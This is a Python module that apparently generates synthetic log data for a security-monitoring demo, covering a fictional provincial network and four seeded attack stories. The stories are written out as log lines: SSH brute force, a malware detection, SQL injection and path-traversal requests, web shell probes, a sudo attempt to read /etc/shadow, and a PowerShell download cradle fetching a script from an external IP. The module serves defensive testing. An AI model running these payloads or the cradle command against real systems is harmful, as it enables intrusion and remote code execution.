"""A small province, generated: units, hosts, benign background and four attack stories.

Deterministic by seed (times are relative to a base time, ``now`` by default),
so `make run` shows a living SOC and tests can count on what it contains:

- SSH brute force from one address followed by a successful login on the public portal server;
- malware found by ClamAV on a workstation;
- a web attack (SQL injection, path traversal, web shell probing) on the public portal;
- a PowerShell download cradle on a Windows workstation (Sysmon process creation).

The records are what the collectors receive on the wire: raw syslog lines and
NXLog-style Windows JSON, posted to ``/api/v1/ingest`` like an agent would.
"""

from __future__ import annotations

import gzip
import random
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson

from soclite.models import Host, HostType, Unit


@dataclass(frozen=True)
class DemoHost:
    name: str
    type: HostType
    unit: str
    os: str
    ip: str


@dataclass
class Province:
    units: list[Unit]
    hosts: list[DemoHost]
    #: (host name, record) in time order
    records: list[tuple[str, dict[str, Any]]] = field(default_factory=list)


UNITS = [
    Unit(code="tinh", name="Tỉnh mẫu", parent=None),
    Unit(code="so-tttt", name="Sở Thông tin và Truyền thông", parent="tinh"),
    Unit(code="so-tc", name="Sở Tài chính", parent="tinh"),
    Unit(code="ubnd-huyen-a", name="UBND huyện A", parent="tinh"),
    Unit(code="ubnd-huyen-b", name="UBND huyện B", parent="tinh"),
    Unit(code="ttdl", name="Trung tâm Dữ liệu tỉnh", parent="so-tttt"),
]

ATTACKER_IP = "203.0.113.45"
WEB_ATTACKER_IP = "198.51.100.23"


def build_hosts(rng: random.Random) -> list[DemoHost]:
    hosts = [
        DemoHost("srv-portal-01", HostType.SERVER, "ttdl", "Debian 12", "10.10.1.10"),
        DemoHost("srv-mail-01", HostType.SERVER, "ttdl", "Debian 12", "10.10.1.11"),
        DemoHost("srv-dvc-01", HostType.SERVER, "ttdl", "Ubuntu 22.04", "10.10.1.12"),
        DemoHost("srv-ketoan-01", HostType.SERVER, "so-tc", "Debian 12", "10.20.1.10"),
    ]
    for unit, prefix, net in (
        ("so-tttt", "tttt", 30),
        ("so-tc", "tc", 31),
        ("ubnd-huyen-a", "hta", 40),
        ("ubnd-huyen-b", "htb", 41),
    ):
        for i in range(1, 5):
            windows = rng.random() < 0.75
            hosts.append(
                DemoHost(
                    f"ws-{prefix}-{i:02d}",
                    HostType.WORKSTATION,
                    unit,
                    "Windows 10 Pro" if windows else "Ubuntu 22.04 Desktop",
                    f"10.{net}.0.{10 + i}",
                )
            )
    return hosts


def _syslog(ts: datetime, host: str, tag: str, message: str) -> str:
    # RFC 3164 as rsyslog forwards it by default: local time without a zone, no year.
    local = ts.astimezone(_VN)
    return f"<38>{local.strftime('%b')} {local.day:>2} {local.strftime('%H:%M:%S')} {host} {tag}: {message}"


_VN = __import__("zoneinfo").ZoneInfo("Asia/Ho_Chi_Minh")


def _nginx(ts: datetime, client: str, method: str, uri: str, status: int, agent: str) -> str:
    local = ts.astimezone(_VN)
    stamp = local.strftime("%d/%b/%Y:%H:%M:%S %z")
    return f'{client} - - [{stamp}] "{method} {uri} HTTP/1.1" {status} 512 "-" "{agent}"'


def _sysmon_process(ts: datetime, host: str, image: str, command_line: str, parent: str, user: str) -> dict[str, Any]:
    return {
        "EventTime": ts.strftime("%Y-%m-%d %H:%M:%S"),
        "@timestamp": ts.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z",
        "Hostname": host,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "SourceName": "Microsoft-Windows-Sysmon",
        "EventID": 1,
        "ProcessGuid": "{" + str(uuid.UUID(int=random.Random(command_line + host).getrandbits(128))) + "}",
        "Image": image,
        "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
        "CommandLine": command_line,
        "CurrentDirectory": "C:\\Users\\" + user + "\\",
        "User": "SO\\" + user,
        "ParentImage": parent,
        "ParentCommandLine": parent,
        "IntegrityLevel": "Medium",
    }


def generate(seed: int = 42, base: datetime | None = None, hours: int = 6) -> Province:
    """The province and its records over the ``hours`` before ``base``."""
    rng = random.Random(seed)
    base = (base or datetime.now(UTC)).replace(microsecond=0)
    start = base - timedelta(hours=hours)
    hosts = build_hosts(rng)
    records: list[tuple[datetime, str, dict[str, Any]]] = []
    users = ["nguyenvana", "tranthib", "levanc", "phamthid", "hoangvane"]

    def add(ts: datetime, host: DemoHost, record: dict[str, Any]) -> None:
        records.append((ts, host.name, record))

    def line(ts: datetime, host: DemoHost, text: str, path: str) -> None:
        add(ts, host, {"message": text, "host.name": host.name, "log.file.path": path})

    # Benign background: logins, cron, web traffic, everyday processes.
    for _ in range(hours * 120):
        ts = start + timedelta(seconds=rng.randrange(hours * 3600))
        host = rng.choice(hosts)
        user = rng.choice(users)
        if host.type is HostType.SERVER:
            kind = rng.random()
            if kind < 0.3:
                line(ts, host, _syslog(ts, host.name, f"sshd[{rng.randint(1000, 9999)}]",
                                       f"Accepted publickey for {user} from 10.10.0.{rng.randint(2, 60)} port "
                                       f"{rng.randint(30000, 60000)} ssh2: ED25519 SHA256:abc"), "/var/log/auth.log")
            elif kind < 0.5:
                line(ts, host, _syslog(ts, host.name, f"CRON[{rng.randint(1000, 9999)}]",
                                       "(root) CMD (run-parts /etc/cron.hourly)"), "/var/log/syslog")
            elif host.name == "srv-portal-01":
                uri = rng.choice(["/", "/tin-tuc", "/dich-vu-cong", "/lien-he", "/static/app.css"])
                line(ts, host, _nginx(ts, f"113.161.{rng.randint(1, 250)}.{rng.randint(1, 250)}", "GET", uri, 200,
                                      "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"), "/var/log/nginx/access.log")
            else:
                line(ts, host, _syslog(ts, host.name, "systemd[1]", "Started Daily apt download activities."),
                     "/var/log/syslog")
        elif host.os.startswith("Windows"):
            image, cmd = rng.choice([
                ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", '"WINWORD.EXE" /n "C:\\Users\\{u}\\Documents\\cong-van.docx"'),
                ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"chrome.exe" https://dichvucong.gov.vn'),
                ("C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\Users\\{u}\\ghi-chu.txt"),
            ])
            add(ts, host, _sysmon_process(ts, host.name, image, cmd.format(u=user), "C:\\Windows\\explorer.exe", user))
        else:
            line(ts, host, _syslog(ts, host.name, f"sudo[{rng.randint(1000, 9999)}]",
                                   f"{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/apt update"),
                 "/var/log/auth.log")

    portal = hosts[0]
    # Story 1: SSH brute force, then a successful login from the same address.
    t = base - timedelta(minutes=50)
    for i in range(40):
        ts = t + timedelta(seconds=i * 3)
        user = rng.choice(["root", "admin", "oracle", "test", "ubuntu"])
        line(ts, portal, _syslog(ts, portal.name, f"sshd[{20000 + i}]",
                                 f"Failed password for {'invalid user ' if user != 'root' else ''}{user} from {ATTACKER_IP} "
                                 f"port {40000 + i} ssh2"), "/var/log/auth.log")
    ts = t + timedelta(seconds=125)
    line(ts, portal, _syslog(ts, portal.name, "sshd[20100]",
                             f"Accepted password for root from {ATTACKER_IP} port 40100 ssh2"), "/var/log/auth.log")

    # Story 2: ClamAV finds malware on a workstation.
    linux_ws = next((h for h in hosts if h.type is HostType.WORKSTATION and not h.os.startswith("Windows")), hosts[4])
    ts = base - timedelta(minutes=35)
    line(ts, linux_ws, _syslog(ts, linux_ws.name, "clamd[812]",
                               "/home/tranthib/Downloads/hoa-don-dien-tu.pdf.exe: Win.Trojan.Emotet-9953726-0 FOUND"),
         "/var/log/clamav/clamav.log")

    # Story 3: a web attack on the public portal.
    ts = base - timedelta(minutes=25)
    attacks = [
        ("GET", "/tin-tuc?id=1%27%20OR%20%271%27=%271", 500),
        ("GET", "/tin-tuc?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", 500),
        ("GET", "/static/../../../../etc/passwd", 400),
        ("GET", "/uploads/shell.php?cmd=whoami", 404),
        ("POST", "/wp-content/plugins/cmd.jsp?cmd=id", 404),
    ]
    for i, (method, uri, status) in enumerate(attacks):
        line(ts + timedelta(seconds=i * 7), portal,
             _nginx(ts + timedelta(seconds=i * 7), WEB_ATTACKER_IP, method, uri, status, "sqlmap/1.7.2#stable"),
             "/var/log/nginx/access.log")

    # Smaller things an analyst sees every day: a wrong sudo password (medium), a root shell via sudo (low),
    # and the EICAR test file a colleague downloaded to check the antivirus (low).
    mail = hosts[1]
    ts = base - timedelta(minutes=42)
    line(ts, mail, _syslog(ts, mail.name, "sudo[31337]",
                           "levanc : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/levanc ; USER=root ; "
                           "COMMAND=/usr/bin/cat /etc/shadow"), "/var/log/auth.log")
    ts = base - timedelta(minutes=30)
    line(ts, mail, _syslog(ts, mail.name, "sudo[31400]",
                           "hoangvane : TTY=pts/2 ; PWD=/home/hoangvane ; USER=root ; COMMAND=/bin/bash"),
         "/var/log/auth.log")
    ts = base - timedelta(minutes=20)
    line(ts, linux_ws, _syslog(ts, linux_ws.name, "clamd[812]",
                               "/home/tranthib/Downloads/eicar.com: Win.Test.EICAR_HDB-1 FOUND"),
         "/var/log/clamav/clamav.log")

    # Story 4: a PowerShell download cradle on a Windows workstation.
    win_ws = next(h for h in hosts if h.type is HostType.WORKSTATION and h.os.startswith("Windows"))
    ts = base - timedelta(minutes=15)
    add(ts, win_ws, _sysmon_process(
        ts, win_ws.name, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.7/a.ps1')\"",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "nguyenvana"))

    records.sort(key=lambda item: item[0])
    return Province(units=list(UNITS), hosts=hosts, records=[(host, rec) for _, host, rec in records])


def host_models(province: Province) -> list[Host]:
    return [
        Host(id=h.name.lower(), name=h.name, type=h.type, unit=h.unit, os=h.os, ips=[h.ip]) for h in province.hosts
    ]


def batches_by_unit(province: Province, size: int = 500) -> Iterator[tuple[str, list[dict[str, Any]]]]:
    """Records grouped per unit (an agent token is bound to one unit), in batches."""
    unit_of = {h.name: h.unit for h in province.hosts}
    pending: dict[str, list[dict[str, Any]]] = {}
    for host, record in province.records:
        unit = unit_of[host]
        bucket = pending.setdefault(unit, [])
        bucket.append(record)
        if len(bucket) >= size:
            yield unit, bucket
            pending[unit] = []
    for unit, bucket in pending.items():
        if bucket:
            yield unit, bucket


def ndjson_gzip(records: list[dict[str, Any]]) -> bytes:
    return gzip.compress(b"".join(orjson.dumps(r) + b"\n" for r in records))


# --- command line ----------------------------------------------------------------
import click  # noqa: E402  (kept beside the command it serves)


@click.group("demo")
def demo_group() -> None:
    """The bundled sample province (for `make run` and demonstrations)."""


@demo_group.command("replay")
@click.option("--data-dir", type=click.Path(path_type=__import__("pathlib").Path), required=True)
@click.option("--server", "server_url", default="http://127.0.0.1:8000", show_default=True)
@click.option("--seed", type=int, default=42, show_default=True)
@click.option("--hours", type=int, default=6, show_default=True)
@click.option("--config", "config_file", type=click.Path(path_type=__import__("pathlib").Path), default=None)
def demo_replay(data_dir: Any, server_url: str, seed: int, hours: int, config_file: Any) -> None:
    """Create the sample units and hosts, then send its logs to a running server like agents would."""
    import httpx
    from tqdm import tqdm

    from soclite.config import load_cli_settings
    from soclite.runtime import Runtime

    settings = load_cli_settings(config_file, data_dir=data_dir)
    runtime = Runtime.build(settings)
    province = generate(seed=seed, hours=hours)
    try:
        for unit in province.units:
            runtime.store.put_unit(unit)
        for host in host_models(province):
            if runtime.store.find_host(host.id) is None:
                # created only if still missing: a host an agent reported meanwhile is left as it is
                runtime.store.update_host(host.id, {}, create=host)
        tokens = {
            unit.code: runtime.identity.create_token(role="agent", unit=unit.code, name=f"demo-{unit.code}")
            for unit in province.units
        }
    finally:
        runtime.close()
    batches = list(batches_by_unit(province))
    sent = 0
    with httpx.Client(base_url=server_url, timeout=30.0) as client:
        for index, (unit, records) in enumerate(tqdm(batches, desc="replay", unit="batch", disable=None)):
            batch_id = str(uuid.uuid5(uuid.NAMESPACE_URL, f"soclite-demo/{seed}/{hours}/{index}"))
            response = client.post(
                "/api/v1/ingest",
                content=ndjson_gzip(records),
                headers={
                    "Authorization": f"Bearer {tokens[unit]}",
                    "X-Batch-Id": batch_id,
                    "Content-Encoding": "gzip",
                    "Content-Type": "application/x-ndjson",
                },
            )
            response.raise_for_status()
            sent += int(response.json().get("accepted", 0))
    click.echo(f"demo: {len(province.units)} units, {len(province.hosts)} hosts, {sent} records sent", err=True)


commands: list[click.Command] = [demo_group]
